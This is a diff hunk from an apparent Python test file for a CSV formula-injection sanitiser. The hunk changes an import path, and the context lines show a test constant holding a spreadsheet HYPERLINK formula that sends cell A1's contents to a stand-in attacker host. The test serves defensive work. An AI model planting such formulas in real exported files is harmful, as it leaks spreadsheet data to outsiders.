@@ -19,7 +19,7 @@ import polars as pl
 import pytest
 
 from tests.conftest import REPO
-from warehouse.csvsafe import FORMULA_START, safe_cell, safe_frame
+from warehouse.products.csvsafe import FORMULA_START, safe_cell, safe_frame
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
